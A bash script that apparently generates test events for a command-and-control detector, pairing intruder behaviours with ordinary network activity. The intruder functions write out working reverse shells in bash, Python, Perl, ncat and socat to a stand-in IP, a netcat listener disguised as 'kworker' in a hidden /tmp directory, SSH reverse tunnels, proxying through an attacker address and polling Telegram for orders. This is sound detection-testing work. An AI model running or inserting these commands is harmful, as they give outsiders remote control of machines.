#!/bin/bash
# Command and control: somebody outside gives orders. Beside it, who else connects and listens.
# Programs that Debian does not have are nc or bash under their names.

# The intruder, on the host.

host_connect_a_shell() {
  bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
}

host_connect_a_shell_with_python() {
  python3 -c 'import os, socket, subprocess
s = socket.create_connection(("203.0.113.66", 4444))
[os.dup2(s.fileno(), n) for n in (0, 1, 2)]
subprocess.call(["/bin/sh", "-i"])' || true
}

host_connect_a_shell_with_perl() {
  perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(4444, inet_aton("203.0.113.66"))); open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh");' || true
}

host_give_a_connection_to_a_shell() {
  timeout 3 ncat -e /bin/sh 203.0.113.66 4444 || true
  timeout 3 socat TCP:203.0.113.66:4444 EXEC:/bin/sh || true
}

host_open_a_door() {
  mkdir -p /tmp/.x
  cp /usr/bin/nc.openbsd /tmp/.x/kworker
  timeout 0.5 /tmp/.x/kworker -l 0.0.0.0 5555 || true
}

host_dig_tunnels() {
  cp /usr/bin/nc.openbsd /tmp/.x/chisel
  /tmp/.x/chisel -z -w 1 cdn.example.net 8443
  ssh -N -R 8022:localhost:22 -o BatchMode=yes -o ConnectTimeout=1 cdn.example.net || true
  ssh -f -N -D 1080 -o BatchMode=yes -o ConnectTimeout=1 cdn.example.net || true
}

host_hide_where_to() {
  printf '#!/bin/bash\nexec "$@"\n' > /usr/local/bin/torsocks
  chmod 755 /usr/local/bin/torsocks
  torsocks curl -s -m 1 http://cdn.example.net/
  LD_PRELOAD=/tmp/.x/libproxychains.so.4 curl -s -m 1 http://cdn.example.net/
}

host_go_by_a_strange_proxy() {
  https_proxy=http://203.0.113.66:8443 curl -s -m 1 https://packages.example.org/ || true
}

host_open_raw_sockets() {
  python3 /opt/tactic.py
}

host_ask_for_orders_at_a_relay() {
  curl -s -m 1 http://api.telegram.org/getUpdates
}

host_install_remote_access() {
  cp /usr/bin/sleep /usr/local/bin/anydesk
  anydesk 0
}

# The intruder, through the container's server.

internet_run_commands() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/status?fetch_a_file HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

served_fetch_a_file() {
  wget -q -O /tmp/page http://cdn.example.net/
  curl -s -m 1 -o /tmp/page http://cdn.example.net/
}

# Ordinary work.

internet_ask() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/status?check_itself HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

served_check_itself() {
  curl -s -m 1 http://localhost:8080/index.html
}

container_check_health() {
  bash -c 'exec 3<> /dev/tcp/127.0.0.1/8080 && echo healthy'
}

host_wait_for_a_connection() {
  timeout 0.5 nc -l 127.0.0.1 5555 || true
  timeout 0.5 socat TCP-LISTEN:5556,bind=127.0.0.1 - < /dev/null || true
}

host_ask_with_tools() {
  nc -z -w 1 packages.example.org 443
  curl -s -m 1 http://packages.example.org/
  ncat -z -w 1 packages.example.org 443
  python3 -c 'import socket; socket.create_connection(("198.51.100.110", 443)).close()'
  perl -e 'print "nothing to connect\n"'
}

host_go_by_the_own_proxy() {
  https_proxy=http://proxy.example.org:3128 curl -s -m 1 https://packages.example.org/ || true
}

host_log_in_elsewhere() {
  ssh -o BatchMode=yes -o ConnectTimeout=1 packages.example.org ls -R /srv || true
}

host_ping() {
  ln -sf /usr/bin/busybox /usr/local/bin/ping
  ping -c 1 -W 1 -I 192.0.2.10 192.0.2.1
}

host_open_ordinary_sockets() {
  python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()'
}

host_read_about_tools() {
  cat /tmp/.x/chisel > /tmp/copy
  ls -l /usr/local/bin/anydesk /usr/local/bin/torsocks
}

"$1"
